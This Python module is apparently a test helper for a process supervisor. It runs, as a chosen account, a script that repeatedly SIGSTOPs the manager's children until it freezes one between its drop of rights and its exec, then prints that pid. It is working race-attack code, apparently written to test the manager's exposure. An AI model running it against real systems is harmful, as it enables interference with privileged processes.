# SPDX-License-Identifier: MIT
"""An owner who stops a child of the manager between the drop of rights and its exec."""

import subprocess

# Stops each child of the manager that runs as this account and is still a copy of the manager; prints its pid and ends.
_SCRIPT = """
import os, signal, sys
manager = sys.argv[1]
while True:
    with open(f"/proc/{manager}/task/{manager}/children") as file:
        children = file.read().split()
    for pid in children:
        try:
            os.kill(int(pid), signal.SIGSTOP)
            state = ""
            while "State:\tT" not in state:  # what runs is stopped at the next chance, perhaps in its program
                with open(f"/proc/{pid}/status") as file:
                    state = file.read()
            if "Name:\tsupervisor-mana" in state:
                print(pid, flush=True)
                sys.exit()
            os.kill(int(pid), signal.SIGCONT)
        except (OSError, ValueError):
            pass
"""


def stop_a_child_of(manager, uid, gid):
    """Starts the attack; the process ends when it was fast enough, with the pid on its standard output."""
    return subprocess.Popen(["/usr/bin/python3", "-c", _SCRIPT, str(manager)], user=uid, group=gid, extra_groups=[],
                            stdout=subprocess.PIPE, text=True)
